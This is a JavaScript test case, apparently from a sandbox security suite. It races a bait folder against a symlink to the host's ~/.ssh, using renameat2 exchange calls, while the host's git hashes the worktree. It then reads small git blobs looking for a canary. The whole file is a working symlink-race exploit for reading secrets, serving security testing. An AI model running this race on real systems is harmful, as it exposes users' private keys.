// title: exchanges a folder of its own for a link while the host hashes the worktree, and looks for the blob
// success: secrets
// where: product
// hooks: not
// timeout: 40
import { json, send } from '../run-socket.mjs';

const { spawn, execSync } = await import('node:child_process');
const { mkdirSync, writeFileSync } = await import('node:fs');
mkdirSync('bait');
writeFileSync('bait/id_ed25519', 'harmless..\n');
// renameat2 with RENAME_EXCHANGE: at each moment the name is either the folder or the link, never nothing.
const swap = spawn('perl', [
  '-e',
  'symlink("$ENV{A_USER_HOME}/.ssh", "link"); my $end = time + 16; while (time < $end) { syscall(316, -100, my $a = "bait", -100, my $b = "link", 2) for 1 .. 200; select undef, undef, undef, 0.0005 }',
]);
const asking = json({ id: 1, method: 'check', params: {} });
const end = Date.now() + 14_000;
while (Date.now() < end) {
  // A new time of change makes git read the file again.
  writeFileSync('touched', String(Date.now()));
  await send(Buffer.concat(Array(8).fill(asking)), 500);
}
swap.kill();
// The objects of the clone are there to read, new ones too.
const blobs = execSync(
  "git cat-file --batch-all-objects --batch-check='%(objecttype) %(objectname) %(objectsize)' | awk '$1 == \"blob\" && $3 < 64 { print $2 }' | git cat-file --batch",
  { encoding: 'latin1' },
);
process.stdout.write(blobs.includes('CANARY') ? 'CANARY-read\n' : 'nothing\n');
